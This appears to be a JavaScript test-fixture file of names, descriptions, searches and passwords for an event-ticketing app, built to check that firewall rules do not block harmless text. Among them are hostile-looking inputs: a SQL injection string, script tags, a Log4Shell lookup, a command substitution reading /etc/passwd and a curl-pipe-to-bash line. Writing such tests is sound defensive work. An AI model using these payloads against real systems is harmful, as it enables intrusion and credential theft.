// What people are called and write that looks like an attack to somebody. It is put into every field that takes free text.
export const names = [
    "D'Ávila",
    "João d'Oliveira d'Ávila",
    "Conceição & Filhos Ltda.",
    "Show & Cia <ao vivo>",
    "Guns N' Roses",
    "O'Reilly; DROP",
    "Select Drop",
    "União dos Artistas / Teatro A-B",
    "Zoé \"Zó\" Simões (meia)",
    "AC/DC – Back in Black",
    "Rock & Roll #1: 50% off!",
    "R$ 50,00 = meia-entrada",
    "Drop Dead Festival; the Union, and more",
    "Sala 2, 3º andar – Bloco C",
    "¿Quién? ¡Nosotros!",
    "東京スカパラダイスオーケストラ",
    "Nº 5 @ Casa 92 *ao ar livre*",
    "Where the Wild Things Are",
    "Order by Chaos",
    "Having a Blast or Not",
    "Like a Virgin – Tributo 'Madonna'",
    "Exec Sessions: Table for Two",
    "Marcelo D2 + Emicida | Ao vivo",
    "Bella ciao!",
    "Script de um filme",
    "Alert! (Live)",
    "Ping Pong",
    "Cat Power",
    "😀 Festa ~ 2027 ~ 🎉",
];

/** Sections and rows of a seat map: letters, digits and plain punctuation, see the chart's firewall/rules.conf. */
export const places = ["Plateia A", "Setor D'Ávila & Cia.", "Camarote 3 (1º andar)", "VIP (A)", "Fila A/B", "Pista: meia-entrada #2", "Balcão, lado esquerdo", "東"];

/** Only where people describe something at length, and where it is never put into a page or a query as it is. */
export const descriptions = [
    "Linha um.\r\n\r\n* item\r\n* outro item; \"aspas\" e 'apóstrofos'\r\n\r\n# Título\r\n\r\n> citação – e um `código` no meio.",
    "<p>Show & Cia apresenta <b>ao vivo</b>: <i>Rock & Roll</i> &mdash; <br/>ingressos em <a href=\"https://example.com/?a=1&b=2\">example.com</a></p>",
    "<h1>Título</h1><img src=\"https://cdn.example.com/a.png\" alt=\"cartaz\"><ul><li>Um</li></ul><style>p { color: red }</style>",
    "Select your seats from the map, drop by the bar, and join the union of DJs where all tables are reserved; insert coin.",
    "Oficina de SQL: como funciona SELECT nome FROM pessoas WHERE idade >= 18 ORDER BY nome; e por que ' OR 1=1 -- é perigoso.",
    "Aula de JavaScript: <script>alert('olá')</script>, document.cookie, onclick=\"vai()\" e javascript:void(0).",
    "Aula de Linux: cat /etc/hosts | grep localhost; curl -s https://example.com/x.sh | bash; $(whoami) && `id`; ping -c 1 example.com",
    "Contato: producao@example.com, https://example.com/evento?id=1&tipo=show#mapa; classificação 18+; R$ 1.000,00; 50% (meia).",
    // The longest in bytes.
    "詳".repeat(20000),
    `Release da turnê. ${"Uma banda com vinte anos de estrada, cinco discos e mil shows; \"a melhor do ano\" (Folha), d'além-mar. ".repeat(180)}`,
];

export const searches = [
    "rock & roll", "união", "d'ávila", "show <ao vivo>", "guns n' roses", "50% off", "select", "drop dead", "ac/dc", "festa!", "o'reilly",
    "teatro + dança", "\"ao vivo\"", "a/b", "c#", "são joão -pessoa", "order by chaos", "cat power", "东京",
];

/** May be anything. */
export const passwords = ["correct horse battery", "' OR 1=1; DROP TABLE users; --", "<script>alert(1)</script>", "${jndi:ldap://x/}", "$(cat /etc/passwd)", "{{7*7}}"];

/** Random texts that the core rules take for SQL: about one in five thousand. */
export const unlucky = [
    "4-xCWmsy-FeHBktzulMhOuj--7I61I72RR3Q60tQbMKrjpXz2r4DBdZdbPBS_nGZ",
    "5--uOooLdONK6Oaa7IkYQQzt_hVgJ3gVcab9tIpLc5hrXEw1qT8frm4koAlSVG95",
    "0-Lq0IPtNnEH_Qib3OiB9pGG38XrKEsmbZyv1uyVSBa4mvgw4no3t6lyrTcI---e",
];

/** A seat map with every seat named. */
export const seatMap = (seats, name = "Teatro Municipal") => ({
    name,
    sections: Array.from({ length: Math.ceil(seats / 4000) }, (_, section) => ({
        name: section === 0 ? "Plateia A – Setor D'Ávila & Cia" : `Setor ${section + 1} (1º andar) A/B`,
        rows: Array.from({ length: Math.min(40, seats / 100) }, (_, row) => ({
            name: `Fila ${String.fromCharCode(65 + (row % 26))}${row}`,
            seats: Array.from({ length: 100 }, (_, seat) => (row % 2 ? seat + 1 : `${seat + 1}${seat % 3 ? "" : "A"}`)),
        })),
    })),
});
